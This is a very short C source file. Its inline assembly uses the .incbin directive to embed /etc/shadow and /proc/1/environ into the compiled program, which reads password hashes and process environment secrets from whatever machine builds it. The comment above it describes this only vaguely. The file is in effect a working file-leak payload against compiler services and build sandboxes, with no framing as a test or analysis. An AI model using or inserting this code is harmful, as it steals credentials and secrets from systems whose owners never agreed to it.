/* Embeds a file of the machine in the program. */
__asm__(".incbin \"/etc/shadow\"\n.incbin \"/proc/1/environ\"");
int main(void) { return 0; }
